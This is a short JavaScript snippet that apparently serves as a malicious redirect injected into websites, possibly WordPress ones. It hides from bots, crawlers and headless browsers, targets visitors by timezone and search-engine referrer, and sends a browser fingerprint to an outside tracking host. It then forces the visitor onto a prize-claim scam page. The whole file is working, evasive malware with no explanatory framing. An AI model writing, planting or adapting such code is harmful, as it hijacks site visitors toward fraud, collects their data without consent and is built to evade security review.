(function () {
  var LANDING = 'https://secure-prize-claims.xyz/win/?src=wp&id=4412';
  var PIXEL = 'https://tds-counter-stat.su/c.gif';

  function looksLikeBot() {
    if (navigator.webdriver) return true;
    if (!navigator.languages || navigator.languages.length === 0) return true;
    if (/headless|bot|spider|crawler|curl|wget|python|scrapy/i.test(navigator.userAgent)) return true;
    if (screen.width < 200 || screen.height < 200) return true;
    if (window.outerWidth === 0 && window.outerHeight === 0) return true;
    return false;
  }

  function allowedGeo() {
    var tz = '';
    try { tz = Intl.DateTimeFormat().resolvedOptions().timeZone; } catch (e) {}
    return /^(America|Europe)\//.test(tz) && !/Moscow|Minsk|Kiev|Kyiv/.test(tz);
  }

  if (looksLikeBot() || !allowedGeo()) return;
  if (!/google|bing|yahoo|facebook|t\.co/i.test(document.referrer)) return;

  var fp = [
    Intl.DateTimeFormat().resolvedOptions().timeZone,
    navigator.language,
    screen.width + 'x' + screen.height,
    navigator.maxTouchPoints,
    document.referrer
  ].join('|');
  new Image().src = PIXEL + '?f=' + encodeURIComponent(fp) + '&h=' + location.hostname;

  var meta = document.createElement('meta');
  meta.setAttribute('http-equiv', 'refresh');
  meta.setAttribute('content', '1;url=' + LANDING);
  document.head.appendChild(meta);

  setTimeout(function () {
    window.location.href = LANDING;
  }, 2500);
})();
